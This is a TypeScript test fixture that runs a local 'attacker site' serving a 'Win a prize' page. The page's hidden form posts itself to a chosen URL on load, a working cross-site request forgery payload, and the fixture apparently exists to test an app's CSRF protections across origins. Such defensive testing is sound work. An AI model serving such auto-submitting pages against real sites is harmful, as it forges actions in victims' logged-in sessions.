import http from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * Another web site, as an attacker would run one: /post.html?action=<url>&scope=all serves a
 * page whose form posts itself to `action` as soon as it loads (a classic cross-site
 * request forgery). It listens on every loopback name, so the same server is a different
 * site as http://127.0.0.1:<port> and a same-site, cross-origin one as http://localhost:<port>.
 */
export class AttackerSite {
  private constructor(private readonly server: http.Server) {}

  get port(): number {
    return (this.server.address() as AddressInfo).port;
  }

  static async start(): Promise<AttackerSite> {
    const server = http.createServer((req, res) => {
      const url = new URL(req.url ?? '/', 'http://attacker');
      const action = url.searchParams.get('action') ?? '';
      const fields = [...url.searchParams].filter(([name]) => name !== 'action');
      const inputs = fields
        .map(
          ([name, value]) =>
            `<input type="hidden" name="${escape(name)}" value="${escape(value)}">`,
        )
        .join('');
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', connection: 'close' });
      res.end(
        `<!doctype html><title>Win a prize</title><h1>Claim your prize</h1>` +
          `<form id="f" method="post" action="${escape(action)}">${inputs}</form>` +
          `<script>document.getElementById('f').submit()</script>`,
      );
    });
    await new Promise<void>((resolve) => server.listen(0, resolve));
    return new AttackerSite(server);
  }

  /** The attacking page, served from `host` (a different site than the app, or the same site). */
  url(host: '127.0.0.1' | 'localhost', action: string, fields: Record<string, string>): string {
    return `http://${host}:${this.port}/post.html?${new URLSearchParams({ action, ...fields }).toString()}`;
  }

  stop(): Promise<void> {
    this.server.closeAllConnections();
    return new Promise((resolve) => this.server.close(() => resolve()));
  }
}

function escape(text: string): string {
  return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}
